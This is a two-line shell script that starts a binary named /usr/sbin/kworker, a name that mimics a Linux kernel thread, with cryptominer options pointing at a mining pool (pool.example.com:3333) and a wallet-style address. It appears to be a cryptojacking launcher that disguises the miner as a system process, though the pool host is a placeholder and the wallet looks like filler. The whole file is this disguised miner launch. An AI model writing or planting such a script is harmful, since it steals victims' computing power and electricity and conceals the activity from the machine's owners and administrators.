#!/bin/sh
/usr/sbin/kworker -o pool.example.com:3333 -u 4Ax7Q2mZ9x7Q2mZ9x7Q2mZ9x7Q2mZ9x7Q2mZ9x7Q2mZ9x7Q2mZ9x7Q2mZ9x7Q2mZ9x7Q2mZ9x7Q2mZ9x7Q2mZ9x7Q2mZ9bb -p x -k
